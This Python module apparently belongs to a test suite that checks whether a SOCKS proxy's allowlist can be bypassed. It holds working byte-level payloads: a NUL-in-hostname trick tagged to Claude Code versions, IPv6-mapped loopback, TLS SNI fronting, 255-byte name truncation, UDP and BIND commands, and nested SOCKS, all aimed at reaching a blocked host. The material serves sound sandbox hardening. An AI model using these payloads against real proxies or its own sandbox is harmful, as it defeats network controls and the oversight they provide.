"""SOCKS: what its names can hide, and what it can do besides."""

from __future__ import annotations

import errno
import socket

from .attempt import World, attempt
from .words import Refusal, hello, proxied, record, request, rest, say, server_name, socks, vector

_GROUP = "SOCKS"


def _name(name: bytes) -> bytes:
    return b"\x03" + vector(1, name)


@attempt(_GROUP, "SOCKS4, by an address", "SOCKS4")
def socks4(world: World) -> None:
    packed = socket.inet_aton(world.address)
    say(proxied(world), b"\x04\x01\0\x50" + packed + b"me\0" + request(world.bad.encode(), world.mark))


@attempt(_GROUP, "SOCKS4a, by a name", "SOCKS4a")
def socks4a(world: World) -> None:
    head = b"\x04\x01\0\x50\0\0\0\x01me\0" + world.bad.encode() + b"\0"
    say(proxied(world), head + request(world.bad.encode(), world.mark))


@attempt(_GROUP, "a name with a NUL in it", "Claude Code 2.0.24 to 2.1.89", control=False)
def socks_nul(world: World) -> None:
    say(socks(world, _name(f"{world.bad}\0.{world.good}".encode()), 80), request(world.bad.encode(), world.mark))


@attempt(_GROUP, "an IPv4 address")
def socks_ipv4(world: World) -> None:
    say(socks(world, b"\x01" + socket.inet_aton(world.address), 80), request(b"x", world.mark))


@attempt(_GROUP, "the host's loopback by its address")
def socks_loopback(world: World) -> None:
    say(socks(world, b"\x01" + socket.inet_aton(world.loopback), 80), request(b"x", world.mark))


@attempt(_GROUP, "an IPv6 address")
def socks_ipv6(world: World) -> None:
    say(socks(world, b"\x04" + socket.inet_pton(socket.AF_INET6, world.address6), 80), request(b"x", world.mark))


@attempt(_GROUP, "loopback, mapped into IPv6")
def socks_mapped(world: World) -> None:
    packed = bytes(10) + b"\xff\xff" + socket.inet_aton(world.loopback)
    say(socks(world, b"\x04" + packed, 80), request(b"x", world.mark))


@attempt(_GROUP, "a name, and a port that no rule names")
def socks_port(world: World) -> None:
    say(socks(world, _name(world.good.encode()), 25), world.mark.encode())


@attempt(_GROUP, "a name, and TLS for another")
def socks_fronting(world: World) -> None:
    channel = socks(world, _name(world.good.encode()), 443)
    say(channel, record(hello(world.mark, server_name(world.bad.encode()))))


@attempt(_GROUP, "UDP ASSOCIATE, and a datagram", "RFC 1928 7", control=False)
def socks_udp(world: World) -> None:
    channel = socks(world, b"\x01" + bytes(4), 0, command=3)
    with channel, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        packet = b"\0\0\0\x01" + socket.inet_aton(world.address) + b"\0\x35" + world.mark.encode()
        datagrams.sendto(packet, channel.getpeername())


@attempt(_GROUP, "BIND: a port that waits for the internet", "RFC 1928 6", control=False, proof="claim")
def socks_bind(world: World) -> str:
    with socks(world, b"\x01" + socket.inet_aton(world.address), 80, command=2):
        return "bound"


@attempt(_GROUP, "a password that makes somebody else of it", "RFC 1929", control=False)
def socks_password(world: World) -> None:
    with proxied(world) as channel:
        channel.sendall(b"\x05\x01\x02\x01\x04root\x04root\x05\x01\0" + _name(world.bad.encode()) + b"\0\x50")
        channel.sendall(request(world.bad.encode(), world.mark))
        if not rest(channel):
            raise Refusal(errno.EACCES, "closed")


@attempt(_GROUP, "everything at once, before anything is answered")
def socks_early(world: World) -> None:
    head = b"\x05\x01\0\x05\x01\0" + _name(world.bad.encode()) + b"\0\x50"
    say(proxied(world), head + request(world.bad.encode(), world.mark))


@attempt(_GROUP, "a name of 255 bytes, which a buffer may cut", control=False)
def socks_long(world: World) -> None:
    tail = f".{world.good}".encode()
    name = (world.bad.encode() + b"." * 255)[: 255 - len(tail)] + tail
    say(socks(world, _name(name), 80), request(world.bad.encode(), world.mark))


@attempt(_GROUP, "an address as a name")
def socks_address_as_name(world: World) -> None:
    say(socks(world, _name(world.loopback.encode()), 80), request(b"x", world.mark))


@attempt(_GROUP, "SOCKS in a tunnel", control=False)
def socks_in_tunnel(world: World) -> None:
    with socks(world, _name(world.good.encode()), 80) as channel:
        channel.sendall(b"\x05\x01\0\x05\x01\0" + _name(world.bad.encode()) + b"\0\x50" + world.mark.encode())
        if not rest(channel):
            raise Refusal(errno.EACCES, "closed")
